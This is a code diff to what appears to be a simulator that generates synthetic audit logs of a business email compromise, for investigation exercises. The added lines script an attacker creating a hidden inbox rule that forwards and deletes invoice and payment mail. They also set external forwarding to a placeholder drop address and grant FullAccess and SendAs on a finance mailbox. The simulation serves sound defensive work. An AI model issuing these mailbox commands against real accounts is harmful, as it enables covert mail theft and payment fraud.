@@ -23,6 +23,7 @@ HOUR = 3600
 IP1 = "203.0.113.7"          # day-one attacker address (in case.toml)
 IP2 = "198.51.100.23"        # found through session X1's change of address
 APP_ID = "4f2c9d8e-1111-4222-9333-444455556666"   # the malicious app (ClientAppId)
+DROP = "ap.ledger@proton-mail.example"   # the attacker's external forwarding address
 
 
 def _epoch(y: int, m: int, d: int) -> int:
@@ -85,6 +86,21 @@ def plan_bec(s: Script, u: dict[str, str], D: int, p: dict[str, Any]) -> None:  
             [("Name", "."), ("SubjectContainsWords", "invoice;payment"),
              ("MoveToFolder", "RSS Feeds"), ("MarkAsRead", "True"),
              ("StopProcessingRules", "True")], mailbox=alice)
+    # the mailbox state the report reads at collection (emulator/scenarios/mailbox_state.py): a
+    # forwarding rule then hidden from Get-InboxRule, external forwarding, and full access and
+    # SendAs on the shared mailbox just before it is used
+    s.admin(D + 9 * HOUR + 1980, owa1, "New-InboxRule", f"{alice.split('@')[0]}\\ms-sync",
+            [("Mailbox", alice), ("Name", "ms-sync"), ("SubjectContainsWords", "invoice;wire;payment"),
+             ("ForwardTo", DROP), ("DeleteMessage", "True")], mailbox=alice)
+    s.attack.hidden_rules.append((alice, "ms-sync"))
+    s.admin(D + 9 * HOUR + 2040, owa1, "Set-Mailbox", alice,
+            [("Identity", alice), ("ForwardingSmtpAddress", f"smtp:{DROP}"),
+             ("DeliverToMailboxAndForward", "True")], mailbox=alice)
+    s.admin(D + 10 * HOUR + 300, owa1, "Add-MailboxPermission", finance,
+            [("Identity", finance), ("User", alice), ("AccessRights", "FullAccess"),
+             ("InheritanceType", "All")], mailbox=finance)
+    s.admin(D + 10 * HOUR + 400, owa1, "Add-RecipientPermission", finance,
+            [("Identity", finance), ("Trustee", alice), ("AccessRights", "SendAs")], mailbox=finance)
     # the same session moves to a second address: a session whose IP changes
     owa1b = s.with_ip(owa1, IP2)
     s.reads(D + 9 * HOUR + 2640, D + 10 * HOUR + 300, alice, owa1b, "\\Archive",
